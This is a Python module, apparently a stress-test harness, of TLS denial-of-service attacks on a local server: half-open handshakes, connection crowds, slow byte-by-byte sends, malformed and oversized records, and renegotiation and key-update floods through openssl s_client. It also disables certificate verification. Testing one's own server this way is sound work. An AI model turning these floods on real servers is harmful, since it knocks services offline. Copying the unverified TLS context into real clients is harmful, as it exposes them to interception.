# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on TLS. Each is attack(target, until, outcomes)."""
import os
import random
import socket
import ssl
import subprocess
import time

from flood_h1 import hoard as plain_hoard
from flood_h2 import hear, send


def trusting():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["http/1.1"])
    return context


def client_hello(name="good.test", version=None):
    """The first bytes of a client of Python's."""
    context = trusting()
    if version:
        context.maximum_version = version
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


HELLO, HELLO12 = client_hello(), client_hello(version=ssl.TLSVersion.TLSv1_2)


def said(got, closed):
    """The last alert in the clear, or whether it goes on."""
    if len(got) >= 7 and got[-7] == 21:
        return f"alert {got[-1]}"
    return "closed" if closed else "answered" if got else "open"


def again(make, seconds=0.3):
    def attack(target, until, outcomes):
        while time.monotonic() < until:
            with socket.create_connection(("127.0.0.1", target.tls), 5) as s:
                got, closed = send(s, make())
                outcomes[said(*hear(s, got, closed, seconds))] += 1
    return attack


def split(record, size):
    """The same message in records of `size` bytes."""
    body = record[5:]
    return b"".join(record[:3] + len(body[i:i + size]).to_bytes(2, "big") + body[i:i + size] for i in range(0, len(body), size))


def half(hello):
    """Handshakes that the door does its dearest part of, and the client nothing; as many as come."""
    def attack(target, until, outcomes):
        held = []
        while time.monotonic() < until:
            try:
                s = socket.create_connection(("127.0.0.1", target.tls), 5)
                s.sendall(hello)
                held.append(s)
            except OSError:
                outcomes["refused"] += 1
            if len(held) > 300:
                for s in held[:100]:
                    s.close()
                outcomes["left"] += 100
                del held[:100]
        outcomes["held"] += len(held)
    return attack


def crowd(target, until, outcomes):
    """Connections that wait until there are very many, and then all begin."""
    while time.monotonic() < until:
        held = []
        for _ in range(250):
            try:
                held.append(socket.create_connection(("127.0.0.1", target.tls), 5))
            except OSError:
                outcomes["refused"] += 1
        for s in held:
            try:
                s.sendall(HELLO)
            except OSError:
                outcomes["late"] += 1
        outcomes["at once"] += len(held)
        time.sleep(0.3)
        for s in held:
            s.close()


half_13, half_12 = half(HELLO), half(HELLO12)
byte_by_byte = plain_hoard(200, HELLO[:1], HELLO[1:], every=0.01, port="tls")
first_bytes = plain_hoard(300, HELLO[:100], port="tls")
many_records = again(lambda: split(HELLO, 2))
garbage = again(lambda: os.urandom(1) + os.urandom(2000))
long_hello = again(lambda: b"\x16\x03\x01\x40\x00\x01\x00\xff\xff" + b"\0" * 16380 + (b"\x16\x03\x01\x40\x00" + b"\0" * 16384) * 4)
names = again(lambda: client_hello(f"{random.getrandbits(60):x}.test"), seconds=0.05)
plain_hello = plain_hoard(1, HELLO, port="tls")


def tickets(target, until, outcomes):
    """Resumed with tickets that were changed on the way, a new connection each: they are opened in vain, and a whole handshake follows."""
    context = trusting()
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    session = None
    while time.monotonic() < until:
        try:
            with context.wrap_socket(socket.create_connection(("127.0.0.1", target.tls), 5), server_hostname="good.test", session=session) as s:
                outcomes["resumed" if s.session_reused else "whole"] += 1
                session = session or s.session
        except OSError:
            outcomes["failed"] += 1


def handshakes(target, until, outcomes):
    context = trusting()
    while time.monotonic() < until:
        try:
            context.wrap_socket(socket.create_connection(("127.0.0.1", target.tls), 5), server_hostname="good.test").close()
            outcomes["whole"] += 1
        except OSError:
            outcomes["failed"] += 1


def s_client(letters, *args):
    """openssl s_client is told to do something of TLS's own again and again: K asks for new keys, R renegotiates."""
    def attack(target, until, outcomes):
        while time.monotonic() < until:
            with subprocess.Popen(["openssl", "s_client", "-connect", f"127.0.0.1:{target.tls}", "-servername", "good.test", "-alpn", "http/1.1",
                                   *args], stdin=subprocess.PIPE,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as p:
                try:
                    time.sleep(0.2)
                    while p.poll() is None and time.monotonic() < until + 1:
                        p.stdin.write(letters)
                        p.stdin.flush()
                        time.sleep(0.002)  # it takes a letter only where that is all that it reads
                except OSError:
                    pass
                outcomes["ended" if p.poll() is not None else "open"] += 1
                p.kill()
                try:
                    p.stdin.close()
                except OSError:
                    pass
    return attack


key_updates = s_client(b"K\n", "-tls1_3")
renegotiation = s_client(b"R\n", "-tls1_2")


def idle(target, until, outcomes):
    """Whole handshakes, and then nothing."""
    context = trusting()
    held = []
    while time.monotonic() < until and len(held) < 300:
        try:
            held.append(context.wrap_socket(socket.create_connection(("127.0.0.1", target.tls), 5), server_hostname="good.test"))
        except OSError:
            outcomes["failed"] += 1
    while time.monotonic() < until:
        time.sleep(0.05)
    outcomes["held"] += len(held)
